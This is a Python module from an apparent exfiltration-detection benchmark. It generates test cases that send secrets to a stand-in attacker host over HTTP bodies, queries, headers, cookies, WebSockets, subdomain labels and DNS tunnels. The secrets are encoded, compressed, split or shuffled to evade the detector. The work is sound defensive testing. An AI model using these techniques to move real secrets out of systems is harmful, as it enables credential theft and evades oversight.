"""Seeded generator of exfiltration attempts: secret kinds x techniques.

Each technique turns a secret into the steps an agent would take (HTTP requests,
WebSocket messages, DNS questions) and the *carriers*: byte strings that, if all
of them reach the far side, hand the attacker the secret. The runner decides
"leaked" from what the sink recorded, not from what the proxy said.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import dataclasses
import gzip
import json
import random
import urllib.parse
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import brotli
import zstandard
from bench.exfil.world import ATTACKER, Secret


@dataclass(frozen=True)
class Step:
    kind: str  # "http" | "ws" | "dns"
    host: str
    method: str = "POST"
    path: str = "/"
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    messages: tuple[str | bytes, ...] = ()
    plain: bool = False  # http:// or ws:// (no certificate needed for the name)


def json_step(host: str, path: str, obj: object, *headers: tuple[str, str]) -> Step:
    """A JSON POST, as API clients send one."""
    return Step(
        "http",
        host,
        path=path,
        body=json.dumps(obj).encode(),
        headers=(("content-type", "application/json"), *headers),
    )


@dataclass
class Case:
    id: str
    tier: str
    technique: str
    kind: str  # secret kind, or benign traffic shape
    malicious: bool
    steps: list[Step]
    carriers: list[bytes] = field(default_factory=list)


Technique = Callable[[bytes, random.Random], tuple[list[Step], list[bytes]]]


def _filler(rng: random.Random, n: int = 3) -> dict[str, str]:
    words = ["id", "note", "user", "ts", "session", "trace", "v", "meta", "ref"]
    return {rng.choice(words) + str(i): str(rng.randint(0, 10**6)) for i in range(n)}


def _post_json(rng: random.Random, carrier: bytes) -> tuple[Step, bytes]:
    """A JSON POST holding `carrier`, and the carrier as it is on the wire (JSON-escaped)."""
    data = {**_filler(rng), rng.choice(["data", "payload", "blob", "x"]): carrier.decode()}
    step = Step(
        "http",
        ATTACKER,
        path=f"/collect/{rng.randint(1, 999)}",
        body=json.dumps(data).encode(),
        headers=(("content-type", "application/json"),),
    )
    return step, json.dumps(carrier.decode())[1:-1].encode()


def _in_body(encode: Callable[[bytes], bytes]) -> Technique:
    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        step, wire = _post_json(rng, encode(value))
        return [step], [wire]

    return technique


def _query(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    quoted = urllib.parse.quote(value, safe="")
    return [Step("http", ATTACKER, "GET", f"/p?{rng.choice(['q', 'k', 'token'])}={quoted}")], [
        quoted.encode()
    ]


def _path(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    quoted = urllib.parse.quote(value, safe="")
    return [Step("http", ATTACKER, "GET", f"/u/{rng.randint(1, 99)}/{quoted}/x")], [quoted.encode()]


def _header(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    name = rng.choice(["x-debug", "x-request-context", "user-agent", "referer"])
    return [Step("http", ATTACKER, "GET", "/", headers=((name, value.decode()),))], [value]


def _cookie(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    carrier = base64.urlsafe_b64encode(value).rstrip(b"=")
    cookie = f"sid={rng.randint(10**8, 10**9)}; pref={carrier.decode()}; theme=dark"
    return [Step("http", ATTACKER, "GET", "/", headers=(("cookie", cookie),))], [carrier]


def _prefix_b64(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    prefix = rng.choice([b"u:", b"key=", b"x", b"token: "])
    step, wire = _post_json(rng, base64.b64encode(prefix + value))
    return [step], [wire]


def _sep(sep: bytes) -> Callable[[bytes], bytes]:
    return lambda v: sep.join(bytes([c]) for c in v)


def _compressed(encoding: str, compress: Callable[[bytes], bytes]) -> Technique:
    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        wire = json.dumps(value.decode())
        plain = json.dumps({**_filler(rng), "env": value.decode()}).encode()
        step = Step(
            "http",
            ATTACKER,
            path="/telemetry",
            body=compress(plain),
            headers=(("content-type", "application/json"), ("content-encoding", encoding)),
        )
        return [step], [wire[1:-1].encode()]  # the sink records bodies decoded

    return technique


def _multipart(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    boundary = f"b{rng.randint(10**6, 10**7)}"
    part = base64.encodebytes(b"report line\n" + value + b"\n")
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="r.txt"\r\n'
            "Content-Transfer-Encoding: base64\r\n\r\n"
        ).encode()
        + part
        + f"\r\n--{boundary}--\r\n".encode()
    )
    headers = (("content-type", f"multipart/form-data; boundary={boundary}"),)
    return [Step("http", ATTACKER, path="/upload", body=body, headers=headers)], [part]


def _websocket(encode: Callable[[bytes], bytes]) -> Technique:
    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        carrier = encode(value).decode()
        messages = (json.dumps({"type": "hello"}), json.dumps({"type": "log", "d": carrier}))
        wire = json.dumps(carrier)[1:-1].encode()
        return [Step("ws", ATTACKER, path="/ws", messages=messages)], [wire]

    return technique


def _split(where: str, size: int, encode: Callable[[bytes], bytes] = lambda v: v) -> Technique:
    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        text = encode(value)
        pieces = [text[i : i + size] for i in range(0, len(text), size)]
        steps, carriers = [], []
        for n, piece in enumerate(pieces):
            carriers.append(piece)
            quoted = urllib.parse.quote(piece, safe="")
            if where == "query":
                steps.append(Step("http", ATTACKER, "GET", f"/c?i={n}&d={quoted}"))
            elif where == "path":
                steps.append(Step("http", ATTACKER, "GET", f"/c/{n}/{quoted}"))
            elif where == "body":
                step, carriers[-1] = _post_json(rng, piece)
                steps.append(step)
            elif where == "ws":
                steps.append(Step("ws", ATTACKER, path="/ws", messages=(piece.decode(),)))
        return steps, carriers

    return technique


def _subdomain(encoding: str, tls: bool = False) -> Technique:
    """The secret in host labels; names over ~200 characters are spread over several.
    Over TLS the name also travels in CONNECT and SNI, and the proxy must not resolve
    it before the policy has seen it."""

    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        text = value.hex() if encoding == "hex" else base64.b32encode(value).decode().lower()
        labels = [text.rstrip("=")[i : i + 50] for i in range(0, len(text.rstrip("=")), 50)]
        hosts = [labels[i : i + 3] for i in range(0, len(labels), 3)]
        tag = rng.randint(1, 99)
        steps = [
            Step("http", ".".join(group) + f".s{tag}.{ATTACKER}", "GET", "/", plain=not tls)
            for group in hosts
        ]
        return steps, [".".join(group).encode() for group in hosts]

    return technique


def _subdomain_split(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    text = value.hex()
    pieces = [text[i : i + 16] for i in range(0, len(text), 16)]
    steps = [
        Step("http", f"{p}.{n}.{ATTACKER}", "GET", "/", plain=True) for n, p in enumerate(pieces)
    ]
    return steps, [p.encode() for p in pieces]


def _dns_tunnel(encoding: str) -> Technique:
    def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
        if encoding == "hex":
            text = value.hex()
            pieces = [text[i : i + 30] for i in range(0, len(text), 30)]
        else:
            text = base64.b32encode(value).decode().lower().rstrip("=")
            pieces = [text[i : i + 30] for i in range(0, len(text), 30)]
        zone = f"t{rng.randint(1, 9)}.{ATTACKER}"
        steps = [Step("dns", f"{p}.{n}.{zone}") for n, p in enumerate(pieces)]
        return steps, [p.encode() for p in pieces]

    return technique


def _split_subhosts(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    """Pieces to different names under one registrable domain."""
    pieces = [value[i : i + 8] for i in range(0, len(value), 8)]
    steps, carriers = [], []
    for n, piece in enumerate(pieces):
        quoted = urllib.parse.quote(piece, safe="")
        host = f"n{n}.{ATTACKER}"
        steps.append(Step("http", host, "GET", f"/c?d={quoted}", plain=True))
        carriers.append(piece)
    return steps, carriers


def _split_shuffled(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    pieces = list(enumerate(value[i : i + 8] for i in range(0, len(value), 8)))
    rng.shuffle(pieces)
    steps = [
        Step("http", ATTACKER, "GET", f"/c?i={n}&d={urllib.parse.quote(p, safe='')}")
        for n, p in pieces
    ]
    return steps, [p for _n, p in pieces]


def _split_headers(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    pieces = [value[i : i + 10] for i in range(0, len(value), 10)]
    headers = tuple((f"x-trace-{n}", p.decode()) for n, p in enumerate(pieces))
    return [Step("http", ATTACKER, "GET", "/", headers=headers)], pieces


def _interleaved(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    junk = bytes(b for c in value for b in (c, rng.choice(b"abcdefghijklmnopqrstuvwxyz")))
    step, wire = _post_json(rng, junk)
    return [step], [wire]


def _xor(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
    key = rng.randint(1, 255)
    step, wire = _post_json(rng, base64.b64encode(bytes(c ^ key for c in value)))
    return [step], [wire]


def _nested(*layers: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def encode(value: bytes) -> bytes:
        for layer in layers:
            value = layer(value)
        return value

    return encode


def _unicode(v: bytes) -> bytes:
    return b"".join(b"\\u%04x" % c for c in v)


def _pct_every(v: bytes) -> bytes:
    return b"".join(b"%%%02X" % c for c in v)


def _gz(v: bytes) -> bytes:
    return gzip.compress(v)


def _deflate(v: bytes) -> bytes:
    return zlib.compress(v)


b64 = base64.b64encode
b64url = base64.urlsafe_b64encode


# technique name -> (tier, technique)
TECHNIQUES: dict[str, tuple[str, Technique]] = {
    "body-json": ("plain", _in_body(lambda v: v)),
    "query": ("plain", _query),
    "path": ("plain", _path),
    "header": ("plain", _header),
    "base64": ("encoding", _in_body(b64)),
    "base64url": ("encoding", _in_body(lambda v: b64url(v).rstrip(b"="))),
    "base64-offset": ("encoding", _prefix_b64),
    "hex": ("encoding", _in_body(binascii.hexlify)),
    "hex-upper": ("encoding", _in_body(lambda v: binascii.hexlify(v).upper())),
    "percent-every": ("encoding", _in_body(_pct_every)),
    "percent-double": ("encoding", _in_body(lambda v: _pct_every(v).replace(b"%", b"%25"))),
    "unicode-escape": ("encoding", _in_body(_unicode)),
    "base32": ("encoding", _in_body(base64.b32encode)),
    "reversed": ("obfuscation", _in_body(lambda v: v[::-1])),
    "rot13": ("obfuscation", _in_body(lambda v: codecs.encode(v.decode(), "rot13").encode())),
    "html-entities": ("obfuscation", _in_body(lambda v: b"".join(b"&#%d;" % c for c in v))),
    "dash-separated": ("obfuscation", _in_body(_sep(b"-"))),
    "dot-separated": ("obfuscation", _in_body(_sep(b"."))),
    "space-separated": ("obfuscation", _in_body(_sep(b" "))),
    "newline-separated": ("obfuscation", _in_body(_sep(b"\n"))),
    "b64-of-gzip": ("obfuscation", _in_body(_nested(_gz, b64))),
    "hex-of-b64": ("obfuscation", _in_body(_nested(b64, binascii.hexlify))),
    "b64-of-b64": ("obfuscation", _in_body(_nested(b64, b64))),
    "b64-hex-b64": ("obfuscation", _in_body(_nested(b64, binascii.hexlify, b64))),
    "b64-of-reversed": ("obfuscation", _in_body(_nested(lambda v: v[::-1], b64))),
    "gzip-body": ("obfuscation", _compressed("gzip", _gz)),
    "deflate-body": ("obfuscation", _compressed("deflate", _deflate)),
    "br-body": ("obfuscation", _compressed("br", brotli.compress)),
    "zstd-body": ("obfuscation", _compressed("zstd", zstandard.ZstdCompressor().compress)),
    "multipart-b64": ("obfuscation", _multipart),
    "quoted-printable": ("obfuscation", _in_body(lambda v: b"".join(b"=%02X" % c for c in v))),
    "cookie": ("obfuscation", _cookie),
    "websocket": ("obfuscation", _websocket(lambda v: v)),
    "websocket-hex": ("obfuscation", _websocket(binascii.hexlify)),
    "split-query-8": ("split", _split("query", 8)),
    "split-path-8": ("split", _split("path", 8)),
    "split-body-10": ("split", _split("body", 10)),
    "split-ws-8": ("split", _split("ws", 8)),
    "split-b64-12": ("split", _split("query", 12, b64)),
    "split-subhosts": ("split", _split_subhosts),
    "split-shuffled": ("split", _split_shuffled),
    "split-headers": ("split", _split_headers),
    "subdomain-hex": ("dns", _subdomain("hex")),
    "subdomain-b32-tls": ("dns", _subdomain("b32", tls=True)),
    "subdomain-b32": ("dns", _subdomain("b32")),
    "subdomain-split": ("dns", _subdomain_split),
    "dns-tunnel-b32": ("dns", _dns_tunnel("b32")),
    "dns-tunnel-hex": ("dns", _dns_tunnel("hex")),
    # Beyond what the detector claims: shown so the table does not flatter it.
    "split-4": ("beyond", _split("query", 4)),
    "swapcase": ("beyond", _in_body(bytes.swapcase)),
    "interleaved-junk": ("beyond", _interleaved),
    "xor-then-b64": ("beyond", _xor),
}

TIERS = ("plain", "encoding", "obfuscation", "split", "dns", "beyond")


def malicious_cases(
    secrets: list[Secret],
    seed: int,
    reps: int,
    techniques: dict[str, tuple[str, Technique]] | None = None,
) -> list[Case]:
    """Each case talks to its own registrable domain (`attackerN.example`), so what
    one case sent cannot help the split window catch another."""
    rng = random.Random(seed)
    cases = []
    for name, (tier, technique) in (TECHNIQUES if techniques is None else techniques).items():
        for secret in secrets:
            for rep in range(reps):
                steps, carriers = technique(secret.value.encode(), rng)
                zone = f"attacker{len(cases)}.example"
                steps = [dataclasses.replace(s, host=_rehome(s.host, zone)) for s in steps]
                case_id = f"{name}/{secret.kind}/{rep}"
                cases.append(Case(case_id, tier, name, secret.kind, True, steps, carriers))
    return cases


def _rehome(host: str, zone: str) -> str:
    return host[: -len(ATTACKER)] + zone if host.endswith(ATTACKER) else host
